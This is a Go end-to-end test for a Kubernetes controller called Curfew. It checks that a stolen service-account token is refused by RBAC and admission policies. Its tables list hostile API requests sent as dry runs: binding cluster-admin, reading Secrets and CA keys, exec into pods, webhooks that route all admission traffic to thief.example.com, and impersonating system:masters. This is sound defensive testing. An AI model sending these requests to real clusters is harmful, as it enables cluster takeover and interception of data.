package e2e

import (
	"context"
	"maps"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"curfew.dev/curfew/test/harness"
)

// attempt is a request that a thief of a token would send: a verb of HTTP, a path, and a body if it
// takes one. All are dry runs, which take the same permissions.
type attempt struct{ verb, path, body string }

const (
	ci            = "/api/v1/namespaces/ci"
	own           = "/api/v1/namespaces/" + harness.Namespace
	rbacAPI       = "/apis/rbac.authorization.k8s.io/v1"
	registrations = "/apis/admissionregistration.k8s.io/v1"
	curfewAPI     = "/apis/curfew.dev/v1alpha1"

	podBody     = `{"metadata":{"name":"thief"},"spec":{"containers":[{"name":"a","image":"thief"}]}}`
	bindingBody = `{"metadata":{"name":"thief"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},
		"subjects":[{"kind":"ServiceAccount","name":"curfew-controller","namespace":"` + harness.Namespace + `"}]}`
	hookBody = `{"metadata":{"name":"thief"},"webhooks":[{"name":"thief.example.com","sideEffects":"None","admissionReviewVersions":["v1"],
		"clientConfig":{"url":"https://thief.example.com/"},"rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*/*"]}]}]}`
	pathBody = `{"metadata":{"name":"curfew-kinds"},"webhooks":[{"name":"a.curfew.dev","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore",
		"clientConfig":{"service":{"namespace":"` + harness.Namespace + `","name":"curfew-webhook","path":"/validate"}}}]}`
	allRules = `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`
	tokenFor = `{"type":"kubernetes.io/service-account-token","metadata":{"name":"thief","annotations":{"kubernetes.io/service-account.name":"curfew-controller"}}}`
)

// refusedToAll is what RBAC refuses to every token of Curfew's.
var refusedToAll = map[string]attempt{
	"reads a Secret":                                 {"GET", ci + "/secrets/db", ""},
	"lists all Secrets":                              {"GET", "/api/v1/secrets", ""},
	"reads a ConfigMap":                              {"GET", ci + "/configmaps/kube-root-ca.crt", ""},
	"reads logs":                                     {"GET", ci + "/pods/victim/log", ""},
	"creates a Pod":                                  {"POST", ci + "/pods", podBody},
	"creates a Pod beside itself":                    {"POST", own + "/pods", podBody},
	"creates a Job":                                  {"POST", "/apis/batch/v1/namespaces/ci/jobs", `{"metadata":{"name":"thief"}}`},
	"changes a Deployment":                           {"PATCH", "/apis/apps/v1/namespaces/" + harness.Namespace + "/deployments/curfew-controller", `{"spec":{"replicas":9}}`},
	"runs a command":                                 {"POST", ci + "/pods/victim/exec?command=sh", ""},
	"adds an ephemeral container":                    {"PATCH", ci + "/pods/victim/ephemeralcontainers", `{"spec":{}}`},
	"reaches a kubelet":                              {"GET", "/api/v1/nodes/victim/proxy/pods", ""},
	"requests a token":                               {"POST", own + "/serviceaccounts/curfew-controller/token", `{"spec":{}}`},
	"signs a certificate":                            {"POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", `{"metadata":{"name":"thief"}}`},
	"binds cluster-admin":                            {"POST", rbacAPI + "/clusterrolebindings", bindingBody},
	"binds cluster-admin in its namespace":           {"POST", rbacAPI + "/namespaces/" + harness.Namespace + "/rolebindings", bindingBody},
	"extends its own role":                           {"PATCH", rbacAPI + "/clusterroles/curfew-controller-core", allRules},
	"creates a role that aggregates to it":           {"POST", rbacAPI + "/clusterroles", `{"metadata":{"name":"thief","labels":{"curfew.dev/aggregate-to-controller":"true"}}}`},
	"changes another's webhooks":                     {"PATCH", registrations + "/mutatingwebhookconfigurations/of-another", `{"webhooks":[]}`},
	"removes Curfew's webhooks":                      {"DELETE", registrations + "/validatingwebhookconfigurations/curfew", ""},
	"creates an admission policy":                    {"POST", registrations + "/validatingadmissionpolicies", `{"metadata":{"name":"thief"}}`},
	"changes a CRD":                                  {"PATCH", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/podtallies.curfew.dev", `{"spec":{}}`},
	"creates a policy":                               {"POST", curfewAPI + "/clustercleanuppolicies", `{"metadata":{"name":"thief"}}`},
	"approves a policy":                              {"POST", curfewAPI + "/clustercleanupapprovals", `{"metadata":{"name":"thief"}}`},
	"teaches Curfew a kind":                          {"POST", curfewAPI + "/kindprofiles", `{"metadata":{"name":"thief"}}`},
	"deletes a LifecyclePolicy":                      {"DELETE", curfewAPI + "/lifecyclepolicies/platform", ""},
	"deletes a Namespace":                            {"DELETE", "/api/v1/namespaces/ci", ""},
	"deletes a Node":                                 {"DELETE", "/api/v1/nodes/victim", ""},
	"deletes a PersistentVolume":                     {"DELETE", "/api/v1/persistentvolumes/victim", ""},
	"deletes a CRD":                                  {"DELETE", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/podtallies.curfew.dev", ""},
	"deletes an APIService":                          {"DELETE", "/apis/apiregistration.k8s.io/v1/apiservices/v1.apps", ""},
	"deletes a ClusterRoleBinding":                   {"DELETE", rbacAPI + "/clusterrolebindings/cluster-admin", ""},
	"deletes a Lease":                                {"DELETE", "/apis/coordination.k8s.io/v1/namespaces/" + harness.Namespace + "/leases/curfew-controller", ""},
	"deletes an Event":                               {"DELETE", ci + "/events/victim", ""},
	"deletes EndpointSlices":                         {"DELETE", "/apis/discovery.k8s.io/v1/namespaces/default/endpointslices/kubernetes", ""},
	"deletes kube-root-ca.crt":                       {"DELETE", ci + "/configmaps/kube-root-ca.crt", ""},
	"deletes a ServiceAccount":                       {"DELETE", ci + "/serviceaccounts/default", ""},
	"deletes all Pods of a namespace in one request": {"DELETE", ci + "/pods", ""},
}

// stolen is what RBAC refuses to one token, what manifests/rbac/limits.yaml refuses it, and what
// nothing does: docs/security.md lists the latter.
var stolen = map[string]struct{ refused, limited, allowed map[string]attempt }{
	"curfew-controller": {
		refused: map[string]attempt{
			"reads the CA's key":          {"GET", own + "/secrets/curfew-webhook-tls", ""},
			"changes the static webhooks": {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"webhooks":[]}`},
			"replaces a Pod":              {"PUT", ci + "/pods/victim", podBody},
			"creates any Secret":          {"POST", own + "/secrets", tokenFor},
			"creates any other ConfigMap": {"PATCH", own + "/configmaps/thief", `{"data":{}}`},
		},
		limited: map[string]attempt{
			"changes the image of a running Pod": {"PATCH", ci + "/pods/victim", `{"spec":{"containers":[{"name":"victim","image":"thief"}]}}`},
			"removes a finalizer of a Pod":       {"PATCH", ci + "/pods/victim", `{"metadata":{"$deleteFromPrimitiveList/finalizers":["example.com/own"]}}`},
			"weakens Pod Security by a status": {"PATCH", "/api/v1/namespaces/" + harness.Namespace + "/status",
				`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`},
			"adds a finalizer to a Namespace by its status": {"PATCH", "/api/v1/namespaces/" + harness.Namespace + "/status",
				`{"metadata":{"finalizers":["thief.example.com/a"]}}`},
			"gives a Pod a TTL annotation":    {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"curfew.dev/ttl-after-finished":"1s"}}}`},
			"invents a key of Curfew's":       {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"curfew.dev/thief":"a"}}}`},
			"gives a Namespace a default":     {"PATCH", ci, `{"metadata":{"annotations":{"curfew.dev/default-ttl":"1s"}}}`},
			"sends requests to another path":  {"POST", registrations + "/mutatingwebhookconfigurations", pathBody},
			"creates a webhook that sees all": {"POST", registrations + "/mutatingwebhookconfigurations", hookBody},
			"has requests sent to itself":     {"POST", registrations + "/mutatingwebhookconfigurations", strings.Replace(hookBody, `"name":"thief"`, `"name":"curfew-kinds"`, 1)},
		},
		allowed: map[string]attempt{
			"deletes a Pod":                     {"DELETE", ci + "/pods/victim", ""},
			"writes a key of Curfew's on a Pod": {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"curfew.dev/finished-at":"2026-01-01T00:00:00Z"}}}`},
			"lists all Pods":                    {"GET", "/api/v1/pods", ""},
			"reads roles":                       {"GET", rbacAPI + "/clusterroles", ""},
			"asks what others may do":           {"POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", `{"spec":{"user":"admin","nonResourceAttributes":{"path":"/","verb":"get"}}}`},
		},
	},
	"curfew-webhook": {
		refused: map[string]attempt{
			"deletes a Job":               {"DELETE", "/apis/batch/v1/namespaces/ci/jobs/victim", ""},
			"deletes a Pod":               {"DELETE", ci + "/pods/victim", ""},
			"changes a Pod":               {"PATCH", ci + "/pods/victim", `{"metadata":{"labels":{"a":"b"}}}`},
			"changes a Namespace":         {"PATCH", "/api/v1/namespaces/ci", `{"metadata":{"labels":{"a":"b"}}}`},
			"creates webhooks":            {"POST", registrations + "/mutatingwebhookconfigurations", hookBody},
			"lists Pods":                  {"GET", "/api/v1/pods", ""},
			"reads a Secret beside it":    {"GET", own + "/secrets/thief", ""},
			"deletes the CA's Secret":     {"DELETE", own + "/secrets/curfew-webhook-tls", ""},
			"creates a Secret of another": {"POST", ci + "/secrets", tokenFor},
		},
		limited: map[string]attempt{
			"creates a token of another account": {"POST", own + "/secrets", tokenFor},
			"has requests sent to itself":        {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"defaults.curfew.dev","clientConfig":{"service":null,"url":"https://thief.example.com/"}}]}`},
			"sees all requests":                  {"PATCH", registrations + "/validatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"validate.curfew.dev","rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*/*"]}]}]}`},
			"fails requests":                     {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"defaults.curfew.dev","failurePolicy":"Fail"}]}`},
			"creates a Secret of its own":        {"POST", own + "/secrets", `{"metadata":{"name":"thief"},"type":"kubernetes.io/tls","data":{"tls.crt":"","tls.key":""}}`},
		},
		allowed: map[string]attempt{
			"reads the CA's key":      {"GET", own + "/secrets/curfew-webhook-tls", ""},
			"removes a CA bundle":     {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"defaults.curfew.dev","clientConfig":{"caBundle":null}}]}`},
			"asks what others may do": {"POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", `{"spec":{"user":"admin","nonResourceAttributes":{"path":"/","verb":"get"}}}`},
			"reads every Namespace":   {"GET", "/api/v1/namespaces", ""},
		},
	},
}

// impersonated is whom no token may act as.
var impersonated = []rest.ImpersonationConfig{
	{UserName: "admin"},
	{UserName: "system:serviceaccount:" + harness.Namespace + ":curfew-cleanup", Groups: []string{"system:masters"}},
	{UserName: "system:serviceaccount:kube-system:generic-garbage-collector"},
	{UserName: "system:serviceaccount:ci:default"},
}

// stealTokens tries what a thief would, with tokens of Curfew's accounts under the roles of the chart.
func stealTokens(ctx context.Context, t *testing.T, cluster *harness.Cluster) {
	must(t, kubectl(ctx, cluster, "run", "victim", "-n", "ci", "--image=busybox", "--annotations=example.com/own=a",
		`--overrides={"metadata":{"finalizers":["example.com/own"]}}`))
	defer func() {
		must(t, kubectl(ctx, cluster, "patch", "pod", "victim", "-n", "ci", "--type=merge", "-p", `{"metadata":{"finalizers":null}}`))
	}()
	writeAllGranted(ctx, t, cluster)
	const cleanup = "system:serviceaccount:" + harness.Namespace + ":curfew-cleanup"
	for account, own := range stolen {
		config, err := cluster.StealToken(ctx, account)
		must(t, err)
		attempts := maps.Clone(refusedToAll)
		maps.Copy(attempts, own.refused)
		for what, request := range attempts {
			if err := request.send(ctx, t, config); !refused(err) {
				t.Errorf("%s: with its token a thief %s: %v", account, what, err)
			}
		}
		for what, request := range own.limited {
			if err := request.send(ctx, t, config); !limited(err) {
				t.Errorf("%s: with its token a thief %s: %v", account, what, err)
			}
		}
		for what, request := range own.allowed {
			if err := request.send(ctx, t, config); err != nil && !apierrors.IsNotFound(err) {
				t.Errorf("%s: docs/security.md says that with its token a thief %s: %v", account, what, err)
			}
		}
		for _, as := range impersonated {
			if err := (attempt{"GET", "/api/v1/namespaces", ""}).send(ctx, t, impersonating(config, as)); !refused(err) {
				t.Errorf("%s: with its token a thief acts as %v: %v", account, as, err)
			}
		}
		as := impersonating(config, rest.ImpersonationConfig{UserName: cleanup})
		err = attempt{"DELETE", ci + "/pods/victim", ""}.send(ctx, t, as)
		if account == "curfew-controller" && err != nil || account != "curfew-controller" && !refused(err) {
			t.Errorf("%s: as curfew-cleanup a thief deletes a Pod: %v", account, err)
		}
		if account == "curfew-controller" {
			for what, request := range refusedToAll {
				if err := request.send(ctx, t, as); !refused(err) {
					t.Errorf("%s: as curfew-cleanup a thief %s: %v", account, what, err)
				}
			}
		}
	}
}

// stealAnother: while the CA's Secret is missing, the webhook's token does not make it one of the
// controller.
func stealAnother(ctx context.Context, t *testing.T, cluster *harness.Cluster) {
	const name = "curfew-webhook-tls"
	must(t, kubectl(ctx, cluster, "delete", "secret", name, "-n", harness.Namespace, "--ignore-not-found"))
	config, err := cluster.StealToken(ctx, "curfew-webhook")
	must(t, err)
	client, err := kubernetes.NewForConfig(config)
	must(t, err)
	_, err = client.CoreV1().Secrets(harness.Namespace).Create(ctx, &corev1.Secret{Type: corev1.SecretTypeServiceAccountToken,
		ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: map[string]string{corev1.ServiceAccountNameKey: "curfew-controller"}}}, metav1.CreateOptions{})
	if !limited(err) {
		t.Errorf("the webhook's token made a token of the controller: %v", err)
	}
}

// limited reports whether a policy of manifests/rbac/limits.yaml refused a request.
func limited(err error) bool {
	return err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'curfew-")
}

func (a attempt) send(ctx context.Context, t *testing.T, config *rest.Config) error {
	t.Helper()
	client, err := kubernetes.NewForConfig(config)
	must(t, err)
	path, query, _ := strings.Cut(a.path, "?")
	request := client.Discovery().RESTClient().Verb(a.verb).AbsPath(path)
	if name, value, ok := strings.Cut(query, "="); ok {
		request.Param(name, value)
	}
	switch a.verb {
	case "GET":
	case "PATCH":
		request.SetHeader("Content-Type", string(types.StrategicMergePatchType))
		if !strings.HasPrefix(path, "/api/v1") && !strings.Contains(path, "webhookconfigurations") {
			request.SetHeader("Content-Type", string(types.MergePatchType))
		}
		request.Param("dryRun", "All").Body([]byte(a.body))
	default:
		request.Param("dryRun", "All").Body([]byte(a.body))
	}
	return request.Do(ctx).Error()
}

// refused reports whether RBAC refused a request, unlike admission, which answers 403 as well.
func refused(err error) bool {
	return apierrors.IsForbidden(err) && strings.Contains(err.Error(), ` cannot `)
}

func impersonating(config *rest.Config, as rest.ImpersonationConfig) *rest.Config {
	config = rest.CopyConfig(config)
	config.Impersonate = as
	return config
}
